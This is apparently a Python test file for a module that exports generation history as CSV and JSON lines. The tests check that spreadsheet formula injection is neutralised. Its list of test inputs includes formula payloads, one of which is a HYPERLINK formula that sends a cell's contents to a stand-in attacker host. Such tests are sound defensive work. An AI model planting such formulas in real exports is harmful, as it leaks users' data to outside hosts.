"""Exports: CSV that Python's reader restores and no spreadsheet executes, and JSON lines with unchanged text."""

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from unrolled.web.history.exports import COLUMNS, as_csv, as_json_lines, safe_cell
from unrolled.web.history.history import Entry

FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", '=HYPERLINK("http://evil.example/"&A1)', "＝1"]


def entry(**values):
    usual = {"prompt": "Once", "text": ' "a", b\nc', "model": "stories", "finish_reason": "stop", "source": "api"}
    numbers = {"created": 1_700_000_000.6, "tokens": 3, "seconds": 0.5, "seed": -4, "id": 9}
    return Entry(**(usual | numbers | {"settings": {"stop": ["é"]}} | values))


def rows(entries):
    text = "".join(as_csv(entries))
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def test_a_csv_file_holds_every_column():
    header, row = rows([entry()])
    assert header == list(COLUMNS)
    assert dict(zip(header, row, strict=True)) == {
        "id": "9",
        "created": "2023-11-14T22:13:20Z",
        "source": "api",
        "model": "stories",
        "prompt": "Once",
        "text": ' "a", b\nc',
        "finish_reason": "stop",
        "tokens": "3",
        "seconds": "0.5",
        "seed": "-4",
        "settings": '{"stop": ["é"]}',
    }


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_begins_as_a_formula(formula):
    _, row = rows([entry(prompt=formula, text=formula, model=formula)])
    assert [row[3], row[4], row[5]] == [f"'{formula}"] * 3
    assert safe_cell(f"a{formula}") == f"a{formula}"


@given(st.text(st.characters(blacklist_categories=("Cs",))))
def test_any_text_comes_back_from_csv_but_for_the_apostrophe_and_nul(text):
    _, row = rows([entry(text=text)])
    plain = text.replace("\0", "\ufffd")
    assert row[5] in (plain, f"'{plain}")
    assert row[5][:1] not in ("=", "+", "-", "@", "\t", "\r", "\n")


@given(st.text(st.characters(blacklist_categories=("Cs",))))
def test_any_text_comes_back_from_json_lines_as_it_was(text):
    entries = [entry(text=text), entry(prompt=text)]
    lines = "".join(as_json_lines(entries)).split("\n")
    assert lines.pop() == ""
    first, second = map(json.loads, lines)
    assert (first["text"], second["prompt"]) == (text, text)
    assert list(first) == list(COLUMNS)
    assert (first["seed"], first["settings"]) == (-4, {"stop": ["é"]})
